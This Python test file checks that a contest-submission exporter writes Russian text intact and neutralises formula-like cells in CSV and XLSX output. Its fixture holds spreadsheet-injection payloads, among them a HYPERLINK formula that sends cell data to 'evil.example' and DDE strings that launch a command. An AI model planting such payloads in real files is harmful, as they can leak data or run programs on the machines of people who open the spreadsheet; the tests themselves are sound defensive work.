"""Exporting entries: Russian text intact, formula-like cells never run as formulas."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from submissions.adapters.export import export_rows, neutralise_cell, rows_to_csv, rows_to_xlsx
from submissions.domain import submit_entry, withdraw_entry

from .conftest import make_author, make_content
from .seed import load_seed_contest, load_seed_entries

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Нажми")',
    "annotation": "+7 999 cmd|' /C calc'!A0",
    "position": "-2+3",
    "library": "\t=cmd|' /C calc'!A0",
    "full_name": "@Иванова Мария Петровна",
}


@pytest.fixture
def hostile_rows(contest, clock):  # type: ignore[no-untyped-def]
    author = make_author(
        full_name=HOSTILE["full_name"], position=HOSTILE["position"], library=HOSTILE["library"]
    )
    content = make_content(title=HOSTILE["title"], annotation=HOSTILE["annotation"], authors=(author,))
    return export_rows(contest, [submit_entry(contest, content, existing=[], clock=clock).entry])


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_cells_a_spreadsheet_would_run_get_a_leading_apostrophe(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Рюкзачок знаний", "1+1", "a=b", "", "'=already"])
def test_ordinary_cells_are_left_as_they_are(cell: str) -> None:
    assert neutralise_cell(cell) == cell


def test_csv_is_utf8_with_bom_and_keeps_russian_text() -> None:
    contest = load_seed_contest()
    data = rows_to_csv(export_rows(contest, load_seed_entries(contest)))
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Номер", "Номинация", "Название"]
    assert len(rows) == 35
    assert rows[1][:3] == ["1", "Сервис гид", "Рюкзачок знаний"]
    assert "Беловский городской округ" in rows[1]


def test_csv_cells_starting_with_formula_characters_are_neutralised(hostile_rows) -> None:
    row = list(csv.reader(io.StringIO(rows_to_csv(hostile_rows).decode("utf-8-sig"))))[1]
    for text in HOSTILE.values():
        assert "'" + text in row
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_xlsx_keeps_the_exact_text_but_as_text_never_as_a_formula(hostile_rows) -> None:
    data = rows_to_xlsx(hostile_rows)
    sheet = load_workbook(io.BytesIO(data)).active
    values = [cell.value for cell in sheet[2]]
    for text in HOSTILE.values():
        assert text in values
    assert all(cell.data_type != "f" for cell in sheet[2])
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode()


def test_xlsx_of_the_seed_has_one_row_per_entry_in_russian() -> None:
    contest = load_seed_contest()
    sheet = load_workbook(io.BytesIO(rows_to_xlsx(export_rows(contest, load_seed_entries(contest))))).active
    assert sheet.title == "Заявки"
    assert sheet.max_row == 35
    assert sheet.cell(row=2, column=5).value == "Заводискер Оксана Юрьевна"


def test_withdrawn_entries_are_exported_only_when_asked(contest, clock) -> None:
    entry = submit_entry(contest, make_content(), existing=[], clock=clock).entry
    withdrawn = withdraw_entry(contest, entry, "ошибка", clock=clock)
    assert export_rows(contest, [withdrawn]) == []
    (row,) = export_rows(contest, [withdrawn], include_withdrawn=True)
    assert (row.status, row.revision) == ("отозвана", 2)
    (english,) = export_rows(contest, [withdrawn], include_withdrawn=True, language="en")
    assert english.status == "withdrawn"
